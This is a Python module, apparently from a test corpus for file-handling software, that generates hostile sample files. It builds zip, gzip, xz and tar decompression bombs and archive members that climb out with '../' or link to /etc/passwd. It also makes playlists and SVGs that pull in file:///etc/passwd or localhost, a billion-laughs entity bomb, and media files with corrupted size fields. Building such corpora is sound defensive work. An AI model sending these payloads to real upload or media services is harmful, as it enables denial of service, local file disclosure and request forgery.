"""Archives that unfold without end, and recordings and playlists that lead elsewhere."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from hostile.corpus import Sample
from hostile.picture_bombs import zeros
from hostile.wellformed import taped, whole_files, zipped


def _local(name: bytes, method: int, crc: int, packed: int, full: int) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, packed, full, len(name), 0) + name


def _listed(name: bytes, method: int, crc: int, packed: int, full: int, at: int) -> bytes:
    fixed = (20, 20, 0, method, 0, 0x21, crc, packed, full, len(name), 0, 0, 0, 0, 0, at)
    return struct.pack("<4s6H3L5H2L", b"PK\x01\x02", *fixed) + name


def _end(count: int, size: int, at: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, size, at, 0)


def _zip(body: bytes, listing: bytes, count: int) -> bytes:
    return body + listing + _end(count, len(listing), len(body))


def zip_bombs() -> Iterator[Sample]:
    """Yield ZIP."""
    packed, full = zeros(3_000, -zlib.MAX_WBITS), 3_000 << 20
    body = _local(b"zeros", 8, 0, len(packed), full) + packed
    yield Sample("zeros.zip", _zip(body, _listed(b"zeros", 8, 0, len(packed), full, 0), 1), "3 GB in 3 MB")
    lies = _listed(b"zeros", 8, 0, len(packed), 100, 0)
    yield Sample("lies.zip", _zip(body, lies, 1), "3 GB that calls itself 100 bytes")
    shared = b"".join(_listed(b"%d" % n, 8, 0, len(packed), full, 0) for n in range(5_000))
    yield Sample("overlap.zip", _zip(body, shared, 5_000), "5,000 members that are the same 3 GB")
    empty = b"".join(_listed(b"", 0, 0, 0, 0, 0) for _ in range(400_000))
    yield Sample("members.zip", _zip(_local(b"", 0, 0, 0, 0), empty, 400_000), "400,000 members")
    long_name = zipped({"../" * 20_000 + "x\u202egpj.exe": b"bytes", "/etc/passwd": b"x", "C:\\a": b"y", "n\0m": b"z"})
    yield Sample("names.zip", long_name, "names that climb, lie and are 60 kB long")
    nested = whole_files()["still.png"]
    for depth in range(40):
        nested = zipped({f"{depth}.zip": nested})
    yield Sample("nested.zip", nested, "40 archives in each other")
    wide = zipped({f"{n}.zip": zipped({"zeros": bytes(1 << 20)}) for n in range(64)})
    yield Sample("wide.zip", zipped({f"{n}.zip": wide for n in range(64)}), "64 times 64 archives of 1 MB")
    yield Sample("locked.zip", locked(), "a password")
    yield Sample("directory.zip", _end(65_535, 2**32 - 2, 0), "a directory of 4 GB that is not there")
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 2**63, 2**63, 2**62, 0)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 1)
    yield Sample("zip64.zip", b"PK\x03\x04" + bytes(60) + record + locator + _end(65_535, 2**32 - 1, 2**32 - 1),
                 "2^63 members in a directory of 2^62 bytes")  # fmt: skip
    yield Sample("bzip2.zip", zipped({"zeros": bytes(80 << 20)}, zipfile.ZIP_BZIP2), "80 MB in 150 bytes")
    yield Sample("crc.zip", zipped({"a": b"abc" * 99}, 0).replace(b"abcabc", b"abcabd", 1), "a wrong checksum")


def locked() -> bytes:
    """Return a ZIP whose member says that it needs a password."""
    plain = zipped({"secret.jpg": b"x" * 100})
    plain = plain.replace(b"PK\x03\x04\x14\0\0\0", b"PK\x03\x04\x14\0\1\0")
    return plain.replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0")


def stream_bombs() -> Iterator[Sample]:
    """Yield gzip, bzip2 and xz."""
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
    yield Sample("zeros.gz", head + zeros(4_000, -zlib.MAX_WBITS) + bytes(8), "4 GB in 4 MB")
    yield Sample("many.gz", gzip.compress(b"") * 400_000, "400,000 streams one after another, all empty")
    yield Sample("zeros.bz2", bz2.compress(bytes(9 << 20)) * 1_000, "9 GB in 9 kB")
    yield Sample("zeros.xz", lzma.compress(bytes(16 << 20), preset=0) * 240, "4 GB in 600 kB")
    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}]
    asking = bytearray(lzma.compress(b"picture" * 99, filters=filters))
    asking[12 + 4] = 40
    asking[12 + 8 : 12 + 12] = struct.pack("<I", zlib.crc32(bytes(asking[12 : 12 + 8])))
    yield Sample("dictionary.xz", bytes(asking), "a dictionary of 4 GB")
    nested = taped({"x.png": whole_files()["still.png"]})
    for depth in range(25):
        nested = gzip.compress(taped({f"{depth}.tar.gz": nested}), 1, mtime=0)
    yield Sample("nested.tar.gz", nested, "25 archives in each other")
    one = gzip.compress(bytes(1 << 20))
    yield Sample("quiet.gz", gzip.compress(one * 300), "gzip in gzip")


def tape_bombs() -> Iterator[Sample]:
    """Yield TAR."""
    yield Sample("size.tar", tape_header(b"a", 2**60) + bytes(512), "a member of 2^60 bytes")
    yield Sample("negative.tar", tape_header(b"a", -512) * 3, "a member of less than nothing")
    yield Sample("pax.tar", tape_header(b"p", 2**33, b"x") + bytes(2048), "an extended header of 8 GB")
    yield Sample("longname.tar", tape_header(b"l", 2**33, b"L") + bytes(2048), "a name of 8 GB")
    yield Sample("sparse.tar", tape_header(b"s", 512, b"S", b"\x01" * 140) + bytes(1024), "a sparse map without end")
    headers = tape_header(b"e", 0)
    yield Sample("members.tar.gz", gzip.compress(headers * 300_000, 1), "300,000 members, all empty")
    pax = b"19 GNU.sparse.x=" + b"9" * 600 + b"\n" + b"99999 path=" + b"../" * 100
    yield Sample(
        "records.tar", tape_header(b"p", len(pax), b"x") + pax.ljust(1024, b"\0") + headers, "records that lie"
    )
    yield Sample("links.tar", links_out(), "links out of the archive, devices and pipes")


def tape_header(name: bytes, size: int, kind: bytes = b"0", tail: bytes = b"") -> bytes:
    """Return a header with a right checksum, whatever else is in it."""
    number = b"%011o\0" % size if 0 <= size < 8**11 else (size & (2**95 - 1) | 2**95).to_bytes(12, "big")
    if size < 0:
        number = b"\xff" + size.to_bytes(11, "big", signed=True)
    block = name.ljust(100, b"\0") + b"0000644\0" * 3 + number + b"00000000000\0" + b" " * 8 + kind
    block = (block.ljust(257, b"\0") + b"ustar\x0000").ljust(372, b"\0") + tail
    block = block.ljust(512, b"\0")[:512]
    return block[:148] + b"%06o\0 " % sum(block) + block[156:]


def links_out() -> bytes:
    """Return a TAR of links, a device and a pipe."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
            info = tarfile.TarInfo("../../etc/passwd")
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
    return out.getvalue()


def playlists() -> Iterator[Sample]:
    """Yield texts that players follow to other files, under innocent names."""
    hls = b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile:///etc/passwd\n#EXTINF:9,\nhttp://127.0.0.1:9/x.ts\n"
    for name in ("film.mp4", "film.m3u8", "film.ts", "picture.jpg"):
        yield Sample(f"hls-{name}", hls, "an HLS playlist")
    yield Sample("late.mp4", b"\n" * 5_000 + hls, "a playlist after empty lines")
    yield Sample("concat.mp4", b"ffconcat version 1.0\nfile /etc/passwd\nfile /dev/zero\n", "FFmpeg's own list")
    yield Sample("dash.mp4", b"<?xml version='1.0'?><MPD><Period><BaseURL>/etc/passwd</BaseURL></Period></MPD>", "DASH")
    yield Sample("sdp.mp4", b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nm=video 9 RTP/AVP 96\r\n", "a session")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    drawing = f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY l0 "ha">{laughs}]><svg>&l11;</svg>'
    yield Sample("laughs.svg", drawing.encode(), "entities that multiply")
    yield Sample(
        "reach.svg", b'<svg><image href="file:///etc/passwd"/><use href="http://127.0.0.1/"/></svg>', "reaching out"
    )


def box(kind: bytes, data: bytes) -> bytes:
    """Return a box of an MP4."""
    return struct.pack(">I", 8 + len(data)) + kind + data


def recording_bombs() -> Iterator[Sample]:
    """Yield films and sounds."""
    film, wav, flac = (whole_files()[name] for name in ("film.mp4", "sound.wav", "sound.flac"))
    for table in (b"stts", b"stsc", b"stsz", b"stco"):
        at = film.index(table) + 8 + 4 * (table == b"stsz")
        yield Sample(
            f"{table.decode()}.mp4", film[:at] + b"\x7f\xff\xff\xff" + film[at + 4 :], "2^31 entries of a table"
        )
    at = film.index(b"avc1") + 28
    yield Sample("size.mp4", film[:at] + b"\xff\xff\xff\xff" + film[at + 4 :], "65,535 by 65,535")
    at = film.index(b"mvhd") + 20
    yield Sample("long.mp4", film[:at] + b"\x7f\xff\xff\xff" + film[at + 4 :], "a film of years")
    deep = b""
    for _ in range(20_000):
        deep = box(b"moov", deep) if len(deep) < 200_000 else deep
    yield Sample("deep.mp4", box(b"ftyp", b"isom\0\0\2\0isom") + deep, "20,000 boxes in each other")
    yield Sample("references.mp4", film.replace(b"url \0\0\0\1", b"url \0\0\0\0", 1), "pixels that are in another file")
    yield Sample("rate.wav", wav[:24] + b"\xff\xff\xff\x7f" + wav[28:], "two thousand million samples a second")
    yield Sample("channels.wav", wav[:22] + b"\xff\xff" + wav[24:], "65,535 channels")
    yield Sample("none.wav", wav[:22] + b"\0\0" + wav[24:28] + bytes(8) + wav[36:], "no channel at all")
    yield Sample("cover.flac", flac[:4] + b"\x06\xff\xff\xff" + flac[8:], "a cover of 16 MB that is not there")
    yield Sample("tag.mp3", b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(200), "a tag of 256 MB")
    lacing = b"\x1aE\xdf\xa3\x01" + b"\xff" * 7 + b"\x18S\x80g\x01" + b"\xff" * 7 + b"\x1fC\xb6u\x01" + b"\xff" * 40
    yield Sample("unknown.mkv", lacing, "elements of unknown size")
    yield Sample(
        "quiet.mp3", b"\xff\xfb\x90\x64" + bytes(413) + (b"\xff\xfb\x90\x64" + bytes(413)) * 20_000, "a long silence"
    )


def archive_bombs() -> Iterator[Sample]:
    """Yield all of them."""
    yield from zip_bombs()
    yield from stream_bombs()
    yield from tape_bombs()
    yield from playlists()
    yield from recording_bombs()
